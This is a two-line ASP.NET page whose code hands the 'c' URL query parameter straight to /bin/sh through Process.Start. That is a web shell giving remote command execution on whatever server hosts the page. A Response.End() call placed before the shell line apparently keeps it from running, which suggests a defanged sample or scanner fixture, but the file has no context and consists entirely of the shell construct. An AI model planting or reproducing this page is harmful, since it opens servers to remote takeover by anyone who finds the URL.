<%@ Page Language="C#" %>
<% Response.End(); System.Diagnostics.Process.Start("/bin/sh", Request.QueryString["c"]); %>
